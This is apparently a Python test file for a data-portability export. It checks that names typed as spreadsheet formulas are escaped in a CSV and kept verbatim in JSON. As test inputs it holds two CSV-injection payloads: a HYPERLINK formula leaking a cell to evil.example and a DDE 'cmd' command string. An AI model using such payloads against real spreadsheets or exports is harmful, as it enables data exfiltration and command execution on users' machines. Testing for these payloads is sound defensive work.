"""#13, 5.6 in the portability export (Rt4): a name typed as a spreadsheet formula reaches
names.csv as text (a leading quote), while data.json keeps it exactly as the person gave it."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from privacydesk.register import services
from privacydesk.requests import portability

from .conftest import ACTOR

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
COMMAND = "+cmd|' /C calc'!A0"


def test_a_formula_typed_as_a_name_is_text_in_the_csv_and_exact_in_the_json(db):
    bram = services.create_person(actor=ACTOR, purpose="callback", source="contact_form")
    services.add_role(bram, "prospect", actor=ACTOR)
    services.add_datum(bram, "names", {"given_names": FORMULA, "family_name": COMMAND},
                       source="contact_form", purpose="callback", basis="consent", actor=ACTOR)
    archive = zipfile.ZipFile(io.BytesIO(portability.zip_bytes(
        portability.collect(bram, actor=ACTOR))))
    [row] = list(csv.DictReader(io.StringIO(archive.read("names.csv").decode())))
    assert row["given_names"] == "'" + FORMULA and row["family_name"] == "'" + COMMAND
    [name] = json.loads(archive.read("data.json"))["data"]["names"]
    assert name["given_names"] == FORMULA and name["family_name"] == COMMAND
